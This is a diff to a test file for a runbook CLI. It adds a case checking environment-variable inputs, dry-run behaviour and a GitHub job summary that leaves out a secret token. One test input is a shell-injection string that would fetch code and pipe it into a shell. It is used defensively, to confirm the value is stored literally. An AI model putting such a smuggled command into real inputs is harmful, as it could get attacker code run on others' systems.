@@ -165,6 +165,24 @@ describe('runbook run', () => {
     expect(cli(['audit', 'verify', latestRun('parent-run'), '--require-complete']).status).toBe(0);
   });
 
+  it('in a workflow: inputs only from RUNBOOK_INPUT_* env, dry run from RUNBOOK_DRY_RUN, job summary written', () => {
+    const out = join(root, 'env-out');
+    const summary = join(root, 'step-summary.md');
+    const r = cli(['run', 'echo-input', '--inputs-from-env'], {
+      API_TOKEN: secret, RUNBOOK_INPUT_VALUE: '"; curl x | sh #', RUNBOOK_INPUT_OUT: out, GITHUB_STEP_SUMMARY: summary, GITHUB_ACTOR: 'octocat',
+    });
+    expect(r.status, r.stderr).toBe(0);
+    expect(readFileSync(out, 'utf8')).toBe('"; curl x | sh #');
+    const md = readFileSync(summary, 'utf8');
+    expect(md).toMatch(/^## ✅ Echo input: succeeded/m); // the title, humanised from the name
+    expect(md).toContain('by @octocat');
+    expect(md).toMatch(/\| `write` +\| ✅ succeeded/);
+    expect(md).not.toContain(secret);
+    const dry = cli(['run', 'echo-input', '--inputs-from-env'], { RUNBOOK_INPUT_VALUE: 'x', RUNBOOK_INPUT_OUT: join(root, 'never'), RUNBOOK_DRY_RUN: 'true' });
+    expect(dry.status, dry.stderr).toBe(0);
+    expect(() => readFileSync(join(root, 'never'))).toThrow();
+  });
+
   it('audit verify fails on a tampered copy, naming the record', () => {
     const runId = latestRun('echo-input');
     const path = join(root, 'tampered.jsonl');
